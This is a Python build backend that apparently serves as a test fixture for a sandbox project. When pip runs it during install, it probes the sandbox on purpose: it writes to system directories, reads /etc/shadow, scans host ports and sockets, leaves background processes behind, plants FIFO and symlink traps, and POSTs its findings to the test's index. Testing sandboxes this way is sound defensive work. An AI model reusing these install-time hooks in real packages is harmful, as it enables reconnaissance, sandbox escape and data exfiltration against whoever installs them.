"""A hostile build backend (PEP 517), the test's package code: pip runs it in an
install sandbox to prepare the package's metadata (while resolving, and again while
installing) and to build its wheel. Each time it probes the boundary, reports what it
found to the test's index (POST /report), leaves a double-forked process behind, and
its wheel carries the build's findings as `<module>/findings.py`. CONFIG is filled in
by the test (tests/tests/hostile_packages.rs)."""

import base64
import concurrent.futures
import errno
import hashlib
import json
import os
import socket
import urllib.request
import zipfile

CONFIG = json.loads(r'''@CONFIG@''')
NAME, VERSION, MODULE, MODE = CONFIG["name"], CONFIG["version"], CONFIG["module"], CONFIG["mode"]
DIST = NAME.replace("-", "_")


def _err(e):
    return errno.errorcode.get(e.errno, type(e).__name__) if getattr(e, "errno", None) else type(e).__name__


def _status():
    keep = ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapAmb", "NoNewPrivs", "Seccomp")
    out = {}
    with open("/proc/self/status") as f:
        for line in f:
            k, _, v = line.partition(":")
            if k in keep:
                out[k] = " ".join(v.split())
    return out


def _write(path):
    try:
        with open(path, "w") as f:
            f.write("hostile")
        os.unlink(path)
        return "written"
    except OSError as e:
        return _err(e)


def _read(path):
    try:
        with open(path, "rb") as f:
            return "read:" + hashlib.sha256(f.read()).hexdigest()
    except OSError as e:
        return _err(e)


def _list(path):
    try:
        return sorted(os.listdir(path))
    except OSError as e:
        return _err(e)


def _connect(target):
    host, port = target.rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), timeout=1.5)
        s.close()
        return "connected"
    except OSError as e:
        return _err(e)


def _unix(path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(3)
    try:
        s.connect(path)
    except OSError as e:
        return _err(e)
    try:
        s.sendall(b"GET /functions HTTP/1.0\r\n\r\n")
        data = s.recv(64)
        return "answered:" + repr(data) if data else "closed"
    except OSError as e:
        return _err(e)
    finally:
        s.close()


def _gateway():
    with open("/proc/net/route") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000":
                return socket.inet_ntoa(bytes.fromhex(fields[2])[::-1])
    return None


def _leave_sleeper():
    """A process that outlives the hook: double-forked, its own session, nothing of
    pip's held (pip reads the hook's output to its end)."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 4096)
                os.execv("/bin/sleep", ["sprout-hostile-sleeper", "3600"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return "left"


def _other_package():
    """Where the first package's files might be seen from here, and whether they can
    be changed."""
    found = []
    for top in ("/deps", "/tmp", "/", "/.sprout", "/code", "/fns"):
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev", "/usr")]
            if root.count("/") > 4:
                dirs[:] = []
            for n in dirs + files:
                if n.startswith(tuple(CONFIG["other"])):
                    p = os.path.join(root, n)
                    found.append({p: _write(os.path.join(p, "__init__.py")) if os.path.isdir(p) else _write(p)})
    return found


def probe(phase):
    out = {"phase": phase, "package": NAME, "uid": os.getuid(), "euid": os.geteuid(),
           "gid": os.getgid(), "groups": os.getgroups(), "status": _status()}
    tag = f".sprout-hostile-{os.getpid()}"
    out["write"] = {p: _write(os.path.join(p, tag)) for p in
                    ("/usr", "/etc", "/.sprout", "/", "/deps/..", "/root", "/deps", "/tmp")}
    out["read"] = {"/etc/shadow": _read("/etc/shadow")}
    out["list"] = {p: _list(p) for p in ("/root", "/deps/..")}
    gw = _gateway()
    out["gateway"] = gw
    targets = [f"127.0.0.1:{p}" for p in CONFIG["host_ports"]]
    for host in (gw, CONFIG["host_side"]):
        if host:
            targets += [f"{host}:{p}" for p in CONFIG["host_ports"] + [22, 80, 443]]
    with concurrent.futures.ThreadPoolExecutor(len(targets)) as pool:
        out["connect"] = dict(zip(targets, pool.map(_connect, targets)))
    out["index"] = _connect(CONFIG["index_at"])
    out["api_socket"] = {"exists": os.path.exists(CONFIG["api_socket"]),
                         "connect": _unix(CONFIG["api_socket"])}
    out["call_socket"] = _unix("/.sprout/agent.sock")
    if "other" in CONFIG:
        out["other_package"] = _other_package()
    out["sleeper"] = _leave_sleeper()
    return out


def _report(findings):
    try:
        req = urllib.request.Request(CONFIG["report"], data=json.dumps(findings).encode(), method="POST")
        urllib.request.urlopen(req, timeout=5).read()
    except Exception:  # noqa: BLE001 - the wheel carries the findings too
        pass


def _metadata():
    text = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n"
    for r in CONFIG.get("requires", []):
        text += f"Requires-Dist: {r}\n"
    return text


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    if MODE in ("a", "b"):
        _report(probe("metadata"))
    info = f"{DIST}-{VERSION}.dist-info"
    os.makedirs(os.path.join(metadata_directory, info), exist_ok=True)
    with open(os.path.join(metadata_directory, info, "METADATA"), "w") as f:
        f.write(_metadata())
    return info


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = {f"{MODULE}/__init__.py": "MARK = 'original'\n"}
    if MODE in ("a", "b"):
        findings = probe("build")
        _report(findings)
        files[f"{MODULE}/findings.py"] = "FINDINGS = " + repr(findings) + "\n"
    elif MODE == "daemon":
        # Importing it leaves a process running (in a package zygote: beside the
        # zygote, in its fork server's cgroup, outside its thread count).
        files[f"{MODULE}/__init__.py"] += (
            "import os as _os, time as _time\n"
            "if _os.fork() == 0:\n"
            "    try:\n"
            "        _time.sleep(3600)\n"
            "    finally:\n"
            "        _os._exit(0)\n"
        )
    elif MODE == "fifo":
        # Left in the output directory, where pip --target adds the wheel's files.
        os.makedirs("/deps/files", exist_ok=True)
        os.mkfifo("/deps/files/trap")
    elif MODE == "link":
        # The output directory is a link to the sandbox's /tmp: pip installs through
        # it; on the host the same link names the host's /tmp.
        os.symlink("/tmp", "/deps/files")
    info = f"{DIST}-{VERSION}.dist-info"
    files[f"{info}/METADATA"] = _metadata()
    files[f"{info}/WHEEL"] = "Wheel-Version: 1.0\nGenerator: sprout-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    record = ""
    for path, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record += f"{path},sha256={digest},{len(text.encode())}\n"
    files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    name = f"{DIST}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for path, text in files.items():
            z.writestr(path, text)
    return name
